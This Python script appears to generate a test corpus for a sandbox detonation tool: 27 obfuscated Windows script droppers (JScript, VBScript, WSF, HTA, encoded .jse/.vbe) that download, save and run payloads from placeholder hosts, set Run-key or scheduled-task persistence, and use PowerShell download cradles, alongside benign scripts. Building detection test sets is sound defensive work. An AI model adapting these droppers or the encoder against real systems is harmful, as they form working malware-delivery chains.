#!/usr/bin/env python3
# Writes the Windows script corpus of detonate-wsh.sh: droppers in the styles of public samples
# (API names assembled at run time, eval of char codes, array joins, reversed strings, hex
# escapes, WSF and HTA wrappers, VBScript) and benign Windows scripts. Payload URLs point to
# example.invalid or 127.0.0.1 only; nothing here is fetched from anywhere.
# Prints one line per dropper: "NAME KIND IDS" (KIND: js, or vbs for what box-js cannot run;
# IDS: the ATT&CK ids detonation must give, comma-separated).
import os
import sys

mal, ben = sys.argv[1], sys.argv[2]
hta = sys.argv[3] if len(sys.argv) > 3 else ben  # benign HTAs
manifest = []


def write(folder, name, text):
    with open(os.path.join(folder, name), "w", newline="\r\n") as f:
        f.write(text)


def dropper(name, text, ids, kind="js"):
    write(mal, name, text)
    manifest.append("%s %s %s" % (name, kind, ",".join(ids)))


def charcodes(s):
    return ",".join(str(ord(c)) for c in s)


FETCH_SAVE_RUN = """
var h = new ActiveXObject(%(xhr)s);
h.open("GET", %(url)s, false);
h.send();
var st = new ActiveXObject(%(stream)s);
st.Open(); st.Type = 1; st.Write(h.ResponseBody);
st.SaveToFile(%(path)s, 2); st.Close();
var sh = new ActiveXObject(%(shell)s);
sh.%(run)s(%(cmd)s, 0);
"""

# 1. plain: XMLHTTP, ADODB.Stream, WScript.Shell.Run of the saved file through cmd
dropper("plain.js", FETCH_SAVE_RUN % dict(
    xhr='"MSXML2.XMLHTTP"', url='"http://example.invalid/invoice.exe"', stream='"ADODB.Stream"',
    path='"C:\\\\Users\\\\Public\\\\invoice.exe"', shell='"WScript.Shell"', run="Run",
    cmd='"cmd /c C:\\\\Users\\\\Public\\\\invoice.exe"'), ["T1105", "T1059.007", "T1204.002", "T1059.003"])

# 2. API names and the URL as string concatenations
dropper("concat.js", FETCH_SAVE_RUN % dict(
    xhr='"MSX" + "ML2." + "XML" + "HTTP"', url='"ht" + "tp:/" + "/exam" + "ple.invalid/" + "d.e" + "xe"',
    stream='"ADO" + "DB.St" + "ream"', path='"C:\\\\Users\\\\Public\\\\" + "d.exe"',
    shell='"WSc" + "ript.Sh" + "ell"', run='Run', cmd='"C:\\\\Users\\\\Public\\\\d.exe"'),
    ["T1105", "T1059.007", "T1204.002"])

# 3. the whole body in eval(String.fromCharCode(...))
body3 = FETCH_SAVE_RUN % dict(
    xhr='"MSXML2.ServerXMLHTTP"', url='"http://127.0.0.1:9/stage2.exe"', stream='"ADODB.Stream"',
    path='"C:\\\\ProgramData\\\\stage2.exe"', shell='"WScript.Shell"', run="Run",
    cmd='"C:\\\\ProgramData\\\\stage2.exe"')
dropper("fromcharcode.js", "var _0x = [%s];\neval(String.fromCharCode.apply(null, _0x));\n" % charcodes(body3),
        ["T1105", "T1059.007", "T1204.002"])

# 4. array join and indexed look-ups
dropper("arrayjoin.js", """
var a = ["XMLHTTP", "MSXML2.", "Stream", "ADODB.", "Shell", "WScript.", "http://example.invalid/", "x.exe"];
function g(i, j) { return [a[i], a[j]].join(""); }
var h = new ActiveXObject(g(1, 0));
h["op" + "en"]("GET", g(6, 7), false);
h["se" + "nd"]();
var s = new ActiveXObject(g(3, 2));
s.Open(); s.Type = 1; s.Write(h["Respon" + "seBody"]);
s.SaveToFile("C:\\\\Users\\\\Public\\\\" + a[7], 2);
new ActiveXObject(g(5, 4))["R" + "un"]("C:\\\\Users\\\\Public\\\\" + a[7]);
""", ["T1105", "T1059.007", "T1204.002"])

# 5. reversed strings
dropper("reversed.js", """
function r(s) { return s.split("").reverse().join(""); }
var h = new ActiveXObject(r("PTTHLMX.2LMXSM"));
h.open("GET", r("exe.rdpu/dilavni.elpmaxe//:ptth"), false);
h.send();
var s = new ActiveXObject(r("maertS.BDODA"));
s.Open(); s.Type = 1; s.Write(h.ResponseBody); s.SaveToFile(r("exe.rdpu\\\\PMET\\\\:C"), 2);
new ActiveXObject(r("llehS.tpircSW")).Run(r("exe.rdpu\\\\PMET\\\\:C c/ dmc"), 0);
""", ["T1105", "T1059.007", "T1204.002", "T1059.003"])

# 6. hex and unicode escapes, a Run key for persistence
dropper("runkey.js", """
var h = new ActiveXObject("\\x4d\\x53\\x58\\x4d\\x4c\\x32\\x2e\\x58\\x4d\\x4c\\x48\\x54\\x54\\x50");
h.open("GET", "\\u0068ttp://example.invalid/svc.exe", false); h.send();
var s = new ActiveXObject("\\x41DODB.Stream");
s.Open(); s.Type = 1; s.Write(h.ResponseBody); s.SaveToFile("C:\\\\Users\\\\Public\\\\svc.exe", 2);
var w = new ActiveXObject("\\x57Script.Shell");
w.RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\svc", "C:\\\\Users\\\\Public\\\\svc.exe", "REG_SZ");
""", ["T1105", "T1059.007", "T1547.001"])

# 7. PowerShell download cradle through WScript.Shell, built from pieces
dropper("powershell.js", """
var p = ["power", "shell", " -nop -w hidden -c ", "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/a.ps1')"];
var sh = WScript.CreateObject("WScript.Shell");
sh.Run(p.join(""), 0, false);
""", ["T1105", "T1059.007", "T1059.001"])

# 8. a scheduled task (schtasks) after a certutil download
dropper("schtasks.js", """
var sh = new ActiveXObject("WScript.Shell");
sh.Run("cmd /c certutil -urlcache -split -f http://example.invalid/t.exe %TEMP%\\\\t.exe", 0, true);
sh.Run("schtasks /create /tn Updater /tr %TEMP%\\\\t.exe /sc onlogon /f", 0, true);
""", ["T1105", "T1059.007", "T1059.003", "T1053.005"])

# 9. WSF with two JScript jobs in CDATA
dropper("job.wsf", """<?xml version="1.0"?>
<package><job id="main">
<script language="JScript"><![CDATA[
var u = "http://exam" + "ple.invalid/p.dll";
]]></script>
<script language="JScript"><![CDATA[
var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", u, false); x.send();
var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.ResponseBody);
s.SaveToFile("C:\\\\Users\\\\Public\\\\p.dll", 2);
new ActiveXObject("WScript.Shell").Run("rundll32 C:\\\\Users\\\\Public\\\\p.dll,Start", 0);
]]></script>
</job></package>
""", ["T1105", "T1059.007", "T1204.002"])

# 10. HTA with JScript, self-contained, closes itself
dropper("invoice.hta", """<html><head><title>Invoice</title>
<HTA:APPLICATION ID="app" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
<script language="JScript">
var c = String.fromCharCode(112,111,119,101,114,115,104,101,108,108);
var sh = new ActiveXObject("WScript.Shell");
sh.Run(c + " -ep bypass -c \\"Invoke-WebRequest http://example.invalid/i.exe -OutFile $env:TEMP\\\\i.exe; Start-Process $env:TEMP\\\\i.exe\\"", 0);
window.close();
</script></head><body>Loading...</body></html>
""", ["T1105", "T1059.007", "T1059.001"])

# 11. a JScript.Encode-free but function-table style (a public sample's shape)
dropper("table.js", """
var T = { o: function (n) { return new ActiveXObject(n); }, k: ["MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell"] };
var x = T.o(T.k[0]); x.open("GET", "http://127.0.0.1:9/b.exe", false); x.send();
if (x.status == 200 || true) {
  var s = T.o(T.k[1]); s.Open(); s.Type = 1; s.Write(x.ResponseBody);
  s.SaveToFile("C:\\\\Windows\\\\Temp\\\\b.exe", 2);
  T.o(T.k[2]).Exec("C:\\\\Windows\\\\Temp\\\\b.exe");
}
""", ["T1105", "T1059.007"])

# VBScript (translated to JScript by data/wsh-vbs.js inside the sandbox, then run in box-js).
# 12. plain: XMLHTTP, ADODB.Stream with a With block, Run of the saved file
dropper("loader.vbs", """Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://example.invalid/v.exe", False
x.Send
Set s = CreateObject("ADODB.Stream")
With s
  .Open : .Type = 1 : .Write x.ResponseBody
  .SaveToFile "C:\\Users\\Public\\v.exe", 2
End With
CreateObject("WScript.Shell").Run "C:\\Users\\Public\\v.exe", 0
""", ["T1105", "T1059.005", "T1204.002"], kind="vbs")

# 13. HTA with VBScript: a PowerShell download cradle
dropper("vbs.hta", """<html><head><HTA:APPLICATION WINDOWSTATE="minimize"/>
<script language="VBScript">
Set sh = CreateObject("WScript.Shell")
sh.Run "powershell -c iwr http://example.invalid/h.exe -OutFile h.exe; .\\h.exe", 0
self.close
</script></head><body></body></html>
""", ["T1105", "T1059.005", "T1059.001"], kind="vbs")


def vb_chrs(s):
    return " & ".join("Chr(%d)" % ord(c) for c in s)


VB_BODY = """Set h = CreateObject("WinHttp.WinHttpRequest.5.1")
h.Open "GET", "http://example.invalid/c.exe", False
h.Send
Set st = CreateObject("ADODB.Stream")
st.Type = 1 : st.Open : st.Write h.ResponseBody
st.SaveToFile "C:\\ProgramData\\c.exe", 2
CreateObject("WScript.Shell").Run "cmd /c C:\\ProgramData\\c.exe", 0, False"""

# 14. the whole body in Execute of Chr() concatenations, line continuations, On Error
chunks = [vb_chrs(line) + " & vbCrLf" for line in VB_BODY.split("\n")]
dropper("chr.vbs", "On Error Resume Next\nDim p\np = \"\"\n" +
        "".join("p = p & %s\n" % c for c in chunks) + "Execute p\n",
        ["T1105", "T1059.005", "T1204.002", "T1059.003"], kind="vbs")

# 15. a Run key and a payload, names from StrReverse and Replace
dropper("runkey.vbs", """Option Explicit
Dim sh, x, s, u
u = StrReverse("exe.tsohcvs/dilavni.elpmaxe//:ptth")
Set x = CreateObject(Replace("MSXML2.XM#HTTP", "#", "L"))
x.Open "GET", u, False
x.Send
Set s = CreateObject(StrReverse("maertS.BDODA"))
s.Type = 1
s.Open
s.Write x.ResponseBody
s.SaveToFile "C:\\Users\\Public\\svchost.exe", 2
s.Close
Set sh = CreateObject("WScript.Shell")
sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", "C:\\Users\\Public\\svchost.exe", "REG_SZ"
""", ["T1105", "T1059.005", "T1547.001"], kind="vbs")

# 16. WSF with VBScript: Split/Join, a Function, certutil through cmd with Exec
dropper("cert.wsf", """<?xml version="1.0"?>
<job id="u"><script language="VBScript"><![CDATA[
Function Build(parts)
  Build = Join(parts, "")
End Function
Dim a
a = Split("cmd /c cer|tutil -urlca|che -split -f http://example.invalid/k.exe %TEMP%\\k.exe", "|")
Set sh = WScript.CreateObject("WScript.Shell")
Set e = sh.Exec(Build(a))
]]></script></job>
""", ["T1105", "T1059.005", "T1059.003"], kind="vbs")

# 17. a scheduled task running PowerShell, quotes doubled, a Sub
dropper("task.vbs", '''Sub Persist(cmd)
  CreateObject("WScript.Shell").Run "schtasks /create /f /sc minute /mo 30 /tn ""OneDrive Sync"" /tr """ & cmd & """", 0, True
End Sub
Persist "powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/t.ps1')"
''', ["T1105", "T1059.005", "T1053.005", "T1059.001"], kind="vbs")

# 18. char codes shifted by one in an array, decoded in a For loop, Select Case, Call
dropper("shift.vbs", """Dim k, i, url, o
k = Array(%s)
For i = 0 To UBound(k)
  url = url & Chr(k(i) - 1)
Next
Function Pick(n)
  Select Case n
    Case 1
      Pick = "MSXML2.ServerXMLHTTP"
    Case 2
      Pick = "ADODB.Stream"
    Case Else
      Pick = "WScript.Shell"
  End Select
End Function
Set o = CreateObject(Pick(1))
o.Open "GET", url, False
o.Send
If o.Status = 200 Or True Then
  Set f = CreateObject(Pick(2))
  f.Open
  f.Type = 1
  f.Write o.ResponseBody
  f.SaveToFile "C:\\Users\\Public\\s.exe", 2
End If
Call CreateObject(Pick(3)).Run("C:\\Users\\Public\\s.exe", 0)
""" % ", ".join(str(ord(c) + 1) for c in "http://127.0.0.1:9/s.exe"),
        ["T1105", "T1059.005", "T1204.002"], kind="vbs")

# 19. HTA whose VBScript runs ExecuteGlobal of a reversed body
body19 = 'CreateObject("WScript.Shell").Run "mshta http://example.invalid/x.hta", 0'
dropper("global.hta", """<html><head><title>Update</title><hta:application showintaskbar="no"/>
<script language="VBScript">
Dim b
b = "%s"
ExecuteGlobal StrReverse(b)
window.close
</script></head></html>
""" % body19[::-1].replace('"', '""'), ["T1105", "T1059.005"], kind="vbs")

# JScript.Encode / VBScript.Encode (screnc.exe's format), written by this encoder: each
# ASCII character through one of three substitution tables chosen by its position mod 64;
# LF, CR, <, >, @ escaped; length and checksum as 32-bit little-endian base64.
ENC_TABLES = [
    "dP\"Ja^][B`#e_~ORz!F &c*vG%,)i?'?g?bAZf2sMCq9|SH1rnpI?Kj.\x7f(5}$-T7{=l4mN+0otkL3V:xWw;D/YE\\h6Xy\tu8UQ",
    "7~ZE:yY'vcbMQSR &Tq+f*X\x7f{01lI?x?_?)$/93o!u(BFJ\\H6K}]jPi#\tpet,wD?m|C8^[nWL4r%VshUG25.dO;-Aaz\"`kN=g",
    "i,er[fuLEv*C3B cJZ8y2Wl+FRO=p?{?Q?z~;GAwV_&xndtg}h5\"U:`jqoI\\]'Y%|#m(19\x7f6T4bN0^s\tKa$MkD!7SXH.P-)?/",
]
ENC_PICK = [int(c) for c in "1201202002021020102011200210200211020201011201021020112001120102"]
ENC_ESC = {"\n": "@&", "\r": "@#", ">": "@*", "<": "@!", "@": "@$"}


def b64num(v):
    import base64
    return base64.b64encode(v.to_bytes(4, "little")).decode()


def screnc(text):
    body, total = "", 0
    for m, c in enumerate(text):
        if c in ENC_ESC:
            body += ENC_ESC[c]
        else:
            body += ENC_TABLES[ENC_PICK[m % 64]][0 if c == "\t" else ord(c) - 31]
        total += ord(c)
    return "#@~^" + b64num(len(body)) + body + b64num(total & 0xffffffff) + "^#~@"


def encoded(name, text, ids, kind="js"):
    with open(os.path.join(mal, name), "w", newline="") as f:
        f.write(screnc(text.replace("\n", "\r\n")))
    manifest.append("%s %s %s" % (name, kind, ",".join(ids)))


# 20. .jse: the plain dropper, encoded
encoded("invoice.jse", FETCH_SAVE_RUN % dict(
    xhr='"MSXML2.XMLHTTP"', url='"http://example.invalid/e.exe"', stream='"ADODB.Stream"',
    path='"C:\\\\Users\\\\Public\\\\e.exe"', shell='"WScript.Shell"', run="Run",
    cmd='"C:\\\\Users\\\\Public\\\\e.exe"'), ["T1105", "T1059.007", "T1204.002"])

# 21. .vbe: a VBScript dropper, encoded
encoded("order.vbe", VB_BODY + "\n", ["T1105", "T1059.005", "T1204.002", "T1059.003"], kind="vbs")

# 22. HTA with an encoded VBScript block
dropper("encoded.hta", """<html><head><hta:application windowstate="minimize"/>
<script language="VBScript.Encode">%s</script></head><body></body></html>
""" % screnc('Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c iwr http://example.invalid/q.exe -OutFile $env:TEMP\\q.exe", 0\r\n'),
        ["T1105", "T1059.005", "T1059.001"], kind="vbs")

# VBScript in the styles of droppers that use more of the language (issue 12).
# 23. a class-based decoder (a common shape of VBS droppers): Class with a private key set in
# Class_Initialize, Property Get/Let, a decoding Function; names and the URL XOR-encoded
def vb_xor_hex(text, key):
    return "".join("%02X" % (ord(c) ^ key) for c in text)


dropper("decoder.vbs", """Option Explicit
Class cDecoder
  Private m_Key
  Private Sub Class_Initialize()
    m_Key = 0
  End Sub
  Public Property Let Key(ByVal v)
    m_Key = v
  End Property
  Public Property Get Key
    Key = m_Key
  End Property
  Public Function Dec(ByVal h)
    Dim i, r
    r = ""
    For i = 1 To Len(h) Step 2
      r = r & ChrW(CInt("&H" & Mid(h, i, 2)) Xor m_Key)
    Next
    Dec = r
  End Function
End Class
Dim d, x, s
Set d = New cDecoder
d.Key = %d
Set x = CreateObject(d.Dec("%s"))
x.Open "GET", d.Dec("%s"), False
x.Send
Set s = CreateObject(d.Dec("%s"))
s.Type = 1 : s.Open
s.Write x.ResponseBody
s.SaveToFile d.Dec("%s"), 2
CreateObject(d.Dec("%s")).Run d.Dec("%s"), 0
""" % (0x37, vb_xor_hex("MSXML2.XMLHTTP", 0x37), vb_xor_hex("http://example.invalid/cls.exe", 0x37),
       vb_xor_hex("ADODB.Stream", 0x37), vb_xor_hex("C:\\Users\\Public\\cls.exe", 0x37),
       vb_xor_hex("WScript.Shell", 0x37), vb_xor_hex("C:\\Users\\Public\\cls.exe", 0x37)),
        ["T1105", "T1059.005", "T1204.002"], kind="vbs")

# 24. a kill date as a date literal, pieces collected with ReDim Preserve, Select Case Is and
# To, On Error Resume Next then GoTo 0, a method called without parentheses
dropper("killdate.vbs", """Class Builder
  Private parts()
  Private n
  Private Sub Class_Initialize()
    n = -1
    ReDim parts(0)
  End Sub
  Public Sub Add(p)
    n = n + 1
    ReDim Preserve parts(n)
    parts(n) = p
  End Sub
  Public Function Text
    Text = Join(parts, "")
  End Function
End Class
On Error Resume Next
Dim b, level, sh
If Now > #1/1/2001# Then
  Set b = New Builder
  level = 7
  Select Case level
    Case Is < 3
      b.Add "notepad"
    Case 4 To 9
      b.Add "power" : b.Add "shell -nop -w hidden -c "
      b.Add "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/k.ps1')"
  End Select
  Err.Clear
  On Error GoTo 0
  Set sh = CreateObject("WScript.Shell")
  sh.Run b.Text, 0, False
End If
""", ["T1105", "T1059.005", "T1059.001"], kind="vbs")

# 25. With blocks over a class's object, nested; arguments continued over lines inside a call;
# Property Set
dropper("withcls.vbs", """Class Fetcher
  Private m_http
  Public Url, Target
  Public Property Set Http(o)
    Set m_http = o
  End Property
  Public Property Get Http
    Set Http = m_http
  End Property
  Public Sub Fetch()
    With m_http
      .Open "GET", _
            Url, _
            False
      .Send
    End With
  End Sub
End Class
Dim f
Set f = New Fetcher
With f
  Set .Http = CreateObject("MSXML2.ServerXMLHTTP.6.0")
  .Url = "http://example.invalid/" & _
         "w.dll"
  .Target = "C:\\ProgramData\\w.dll"
  .Fetch
  With CreateObject("ADODB.Stream")
    .Type = 1
    .Open
    .Write f.Http.ResponseBody
    .SaveToFile f.Target, _
                2
  End With
End With
CreateObject("WScript.Shell").Run Join(Array("rundll32", _
    f.Target & ",DllRegisterServer"), " "), 0
""", ["T1105", "T1059.005", "T1204.002"], kind="vbs")

# 26. an HTA with both languages: JScript builds the command, VBScript calls it and runs it
dropper("mixed.hta", """<html><head><title>Document</title>
<HTA:APPLICATION ID="doc" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
<script language="JScript">
function buildCmd() {
  var p = ["po", "wer", "shell -ep bypass -c ", "iwr http://example.invalid/m.exe -OutFile $env:TEMP\\\\m.exe"];
  return p.join("");
}
</script>
<script language="VBScript">
Dim c
c = buildCmd()
CreateObject("WScript.Shell").Run c, 0
self.close
</script></head><body>Please wait...</body></html>
""", ["T1105", "T1059.005", "T1059.007", "T1059.001"], kind="vbs")

# 27. a WSF job with both: JScript fetches and saves, VBScript runs the saved file
dropper("mixed.wsf", """<?xml version="1.0"?>
<job id="m">
<script language="JScript"><![CDATA[
var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://example.invalid/j.exe", false); x.send();
var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.ResponseBody);
s.SaveToFile("C:\\\\Users\\\\Public\\\\j.exe", 2);
]]></script>
<script language="VBScript" src="helpers.vbs"/>
<script language="VBScript"><![CDATA[
CreateObject("WScript.Shell").Run "C:\\Users\\Public\\j.exe", 0
]]></script>
</job>
""", ["T1105", "T1059.005", "T1059.007", "T1204.002"], kind="vbs")

# Benign VBScript: a log file, a sum, a Select Case, a Dictionary, string handling.
write(ben, "log.vbs", """Option Explicit
Dim fso, f
Set fso = CreateObject("Scripting.FileSystemObject")
Set f = fso.OpenTextFile("C:\\Users\\Public\\backup.log", 8, True)
f.WriteLine "backup finished: " & Now
f.Close
""")
write(ben, "stack.vbs", """Class Stack
  Private items()
  Private top
  Private Sub Class_Initialize()
    top = -1
    ReDim items(0)
  End Sub
  Public Sub Push(v)
    top = top + 1
    ReDim Preserve items(top)
    items(top) = v
  End Sub
  Public Function Pop
    Pop = items(top)
    top = top - 1
  End Function
  Public Property Get Count
    Count = top + 1
  End Property
End Class
Dim s, due
Set s = New Stack
s.Push "a" : s.Push "b"
due = #2024-03-01#
Select Case s.Count
  Case Is > 5: WScript.Echo "many"
  Case 1 To 5: WScript.Echo "few: " & s.Pop & ", due " & Year(due)
End Select
""")
write(ben, "sum.vbs", """Dim i, total
total = 0
For i = 1 To 100
  total = total + i
Next
WScript.Echo "sum: " & total
""")
write(ben, "weekday.vbs", """Function DayName(n)
  Select Case n
    Case 1: DayName = "Sunday"
    Case 7: DayName = "Saturday"
    Case Else: DayName = "a weekday"
  End Select
End Function
WScript.Echo DayName(3)
""")
write(ben, "count.vbs", """Set d = CreateObject("Scripting.Dictionary")
d.Add "a", 0 : d.Add "b", 0
words = Split("a b a b a", " ")
For Each w In words
  d.Item(w) = d.Item(w) + 1
Next
WScript.Echo "a: " & d.Item("a") & ", b: " & d.Item("b")
""")
write(ben, "names.wsf", """<?xml version="1.0"?>
<job id="names"><script language="VBScript">
Dim n
n = UCase(Left("alice", 1)) & Mid("alice", 2)
MsgBox "Hello " & n, 64, "Names"
</script></job>
""")

# Benign Windows scripts: arithmetic, argument handling, text, dates, a read of a file.
write(ben, "sum.js", """
var total = 0;
for (var i = 1; i <= 100; i++) total += i;
WScript.Echo("sum: " + total);
""")
write(ben, "args.js", """
var args = WScript.Arguments;
if (args.length == 0) WScript.Echo("usage: args.js NAME...");
for (var i = 0; i < args.length; i++) WScript.Echo("hello " + args(i));
""")
write(ben, "dates.js", """
var d = new Date(2024, 0, 31);
d.setDate(d.getDate() + 30);
WScript.Echo("due: " + d.getFullYear() + "-" + (d.getMonth() + 1) + "-" + d.getDate());
""")
write(ben, "primes.js", """
function primes(n) { var out = []; for (var i = 2; out.length < n; i++) { var p = true;
  for (var j = 2; j * j <= i; j++) if (i % j == 0) { p = false; break; } if (p) out.push(i); } return out; }
WScript.Echo(primes(25).join(", "));
""")
write(ben, "json.js", """
var cfg = { name: "backup", keep: 7, folders: ["docs", "mail"] };
var text = JSON.stringify(cfg);
WScript.Echo(text.length + " " + JSON.parse(text).folders.length);
""")
write(ben, "regex.js", """
var lines = ["alice@example.org", "not an address", "bob@example.net"];
var n = 0;
for (var i = 0; i < lines.length; i++) if (/^[^@ ]+@[^@ ]+$/.test(lines[i])) n++;
WScript.Echo(n + " addresses");
""")
write(ben, "sort.js", """
var words = "the quick brown fox jumps over the lazy dog".split(" ");
words.sort(function (a, b) { return a.length - b.length || (a < b ? -1 : 1); });
WScript.Echo(words.join(" "));
""")
write(ben, "popup.js", """
var sh = new ActiveXObject("WScript.Shell");
sh.Popup("Backup finished", 5, "Backup", 64);
""")
write(ben, "report.wsf", """<?xml version="1.0"?>
<job id="report"><script language="JScript"><![CDATA[
var rows = [[1, "north", 120], [2, "south", 95]];
var s = 0; for (var i = 0; i < rows.length; i++) s += rows[i][2];
WScript.Echo("total " + s);
]]></script></job>
""")
# Benign HTAs: being an HTA is worth a look (html_application, suspicious), never malicious
# without behaviour; detonate-wsh.sh checks them apart.
write(hta, "clock.hta", """<html><head><title>Clock</title>
<HTA:APPLICATION ID="clock" APPLICATIONNAME="Clock" BORDER="thin" SINGLEINSTANCE="yes"/>
<script language="JScript">
function pad(n) { return (n < 10 ? "0" : "") + n; }
var d = new Date(2024, 5, 1, 9, 5, 0);
var text = pad(d.getHours()) + ":" + pad(d.getMinutes());
</script></head><body>Clock</body></html>
""")
write(hta, "log.hta", """<html><head><title>Log</title>
<HTA:APPLICATION ID="log" APPLICATIONNAME="Logbook"/>
<script language="JScript">
var fso = new ActiveXObject("Scripting.FileSystemObject");
var f = fso.CreateTextFile("C:\\Users\\Public\\logbook.txt", true);
f.WriteLine("started " + new Date(2024, 0, 1).getFullYear());
f.Close();
</script></head><body>Logbook</body></html>
""")
write(hta, "calc.hta", """<html><head><title>Calculator</title>
<HTA:APPLICATION ID="calc" APPLICATIONNAME="Sums"/>
<script language="JScript">
function add(a, b) { return a + b; }
</script>
<script language="VBScript">
Dim total
total = add(2, 3)
MsgBox "total: " & total
</script></head><body>Sums</body></html>
""")
write(ben, "inventory.wsf", """<?xml version="1.0"?>
<package><job id="inventory"><script language="JScript"><![CDATA[
var items = { disks: 2, printers: 1, monitors: 3 };
var out = [];
for (var k in items) out.push(k + "=" + items[k]);
WScript.Echo(out.join(";"));
]]></script></job></package>
""")
write(ben, "envinfo.js", """
var sh = new ActiveXObject("WScript.Shell");
var env = sh.Environment("Process");
WScript.Echo("temp is " + env("TEMP"));
""")

print("\n".join(manifest))
